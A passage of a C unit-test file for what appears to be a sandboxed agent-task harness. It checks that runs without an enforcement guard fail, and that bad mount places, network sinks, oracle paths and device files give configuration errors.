	ASSERT_EQ(file_read(AT_FDCWD, path, 100, &text, NULL), 0);
	EXPECT_STREQ(text.data, "new\n");
	strcpy(strrchr(path, '/'), "/old");
	ASSERT_EQ(lstat(path, &st), 0);
	EXPECT_TRUE(S_ISCHR(st.st_mode));
	kept = strdup(kept);
	campaign_close(campaign);
	nftw(kept, remove_one, 16, FTW_DEPTH | FTW_PHYS);
}

/* ---- errors */

TEST(no_guard_no_branch)
{
	struct campaign *campaign = NULL;
	struct error *err cleanup_error = NULL;
	struct record_run run;
	struct task task;

	task_init(&task, "touch done", NULL);
	ASSERT_EQ(campaign_open(&campaign, &err), 0);
	ASSERT_EQ(campaign_snapshot(campaign, &task.bound, &err), 0);
	EXPECT_NE(
		branch_run(campaign, NULL, &task.plan, task.arena, &run, &err),
		0);
	EXPECT_EQ(run.end, RUN_ENFORCEMENT_ERROR);
	EXPECT_FALSE(run.accepted);
	EXPECT_STREQ(run.agent_status, "not run");
	campaign_close(campaign);
}

TEST(configuration_errors)
{
	static struct place nowhere = { "/aletheia/x", "/srv/x" };
	struct record_run run;
	struct task task;

	task_init(&task, NULL, NULL);
	task.bound.places = &nowhere;
	task.bound.nr_places = 1;
	EXPECT_NE(task_run(&task, &run), 0);
	EXPECT_EQ(run.end, RUN_CONFIGURATION_ERROR);
	task_init(&task, NULL, NULL);
	task_sink(&task, "198.18.0.5", 0, AL_PROTOCOL_TCP);
	EXPECT_NE(task_run(&task, &run), 0);
	EXPECT_EQ(run.end, RUN_CONFIGURATION_ERROR);
	task_init(&task, NULL, NULL);
	task.manifest.oracle_tests = "/no/such/directory";
	EXPECT_NE(task_run(&task, &run), 0);
	EXPECT_EQ(run.end, RUN_CONFIGURATION_ERROR);
	task_init(&task, NULL, NULL);
	task_add(&task, "/dev/x", 0644, "x");
	EXPECT_NE(task_run(&task, &run), 0);
	EXPECT_EQ(run.end, RUN_CONFIGURATION_ERROR);
}
